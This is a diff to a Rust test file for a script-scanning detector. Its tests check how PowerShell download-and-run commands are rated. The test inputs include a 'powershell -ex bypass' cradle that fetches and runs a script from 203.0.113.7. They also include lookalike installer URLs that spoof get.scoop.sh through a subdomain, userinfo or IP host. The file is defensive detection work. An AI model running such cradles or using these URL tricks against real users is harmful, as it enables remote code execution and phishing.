@@ -12,7 +12,10 @@ fn unfolded(text: &str, kind: Kind) -> Unfolding {
 
 /// Ids and severities.
 fn met(text: &str, kind: Kind) -> Vec<(u64, u8)> {
-    conditions(&unfolded(text, kind)).iter().map(|told| (told.meta.sid, told.severity.unwrap_or(told.meta.severity))).collect()
+    conditions(&unfolded(text, kind), &ContentConfig::default())
+        .iter()
+        .map(|told| (told.meta.sid, told.severity.unwrap_or(told.meta.severity)))
+        .collect()
 }
 
 fn sids(text: &str, kind: Kind) -> Vec<u64> {
@@ -105,6 +108,20 @@ fn a_download_that_is_not_run_is_not_told() {
 }
 
 #[test]
+fn published_installers_are_informative() {
+    assert_eq!(met("iex (irm https://get.scoop.sh)", Kind::Script), [(9_403_003, 3)]);
+    for url in [
+        "http://get.scoop.sh",
+        "https://get.scoop.sh.example.net/",
+        "https://get.scoop.sh@203.0.113.7/",
+        "https://203.0.113.7/get.scoop.sh",
+    ] {
+        assert_eq!(met(&format!("iex (irm {url})"), Kind::Script), [(9_403_003, 1)], "{url}");
+    }
+    assert_eq!(met("iex (irm https://get.scoop.sh); iex (irm https://203.0.113.7/a)", Kind::Script), [(9_403_003, 1)]);
+}
+
+#[test]
 fn commands_are_read_as_windows_reads_them() {
     for text in [
         r#"powershell.exe -ex bypass -Command "iex ((New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1'))""#,
@@ -177,7 +194,7 @@ fn layers_are_followed_into_each_other() {
     }
     let of_file = |bytes: Vec<u8>| {
         let unfolding = unfold(&bytes, Kind::Unknown, super::NAMES, &ContentConfig::default());
-        conditions(&unfolding).iter().map(|told| told.meta.sid).collect::<Vec<_>>()
+        conditions(&unfolding, &ContentConfig::default()).iter().map(|told| told.meta.sid).collect::<Vec<_>>()
     };
     assert_eq!(of_file(compressed(flate2::read::GzEncoder::new(inner.as_bytes(), flate2::Compression::default()))), [9_403_003]);
     for mark in [true, false] {
@@ -368,7 +385,7 @@ fn benign_scripts_raise_no_severe_alert() {
     let shipped = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../signatures/tests/samples/benign");
     let mut folders = vec![shipped];
     folders.extend(std::env::var_os("BACKSTOP_BENIGN_SCRIPTS").map(std::path::PathBuf::from));
-    let mut seen = 0;
+    let (mut seen, mut all) = (0, Vec::<String>::new());
     while let Some(folder) = folders.pop() {
         for entry in std::fs::read_dir(folder).unwrap() {
             let path = entry.unwrap().path();
@@ -380,12 +397,13 @@ fn benign_scripts_raise_no_severe_alert() {
             seen += 1;
             for kind in [Kind::Unknown, Kind::Script] {
                 let unfolding = unfold(&bytes, kind, super::NAMES, &ContentConfig::default());
-                let severe = conditions(&unfolding).into_iter().filter(|told| told.severity.unwrap_or(told.meta.severity) < 3);
-                let severe: Vec<_> = severe.map(|told| (told.meta.sid, told.evidence)).collect();
-                assert!(severe.is_empty(), "{} {kind:?}: {severe:?}", path.display());
+                let met = conditions(&unfolding, &ContentConfig::default()).into_iter();
+                let severe = met.filter(|told| told.severity.unwrap_or(told.meta.severity) < 3);
+                all.extend(severe.map(|told| format!("{} {kind:?}: {} {:?}", path.display(), told.meta.sid, told.evidence)));
             }
         }
     }
+    assert!(all.is_empty(), "{all:#?}");
     assert!(seen >= 15, "{seen}");
     eprintln!("{seen} scripts");
 }
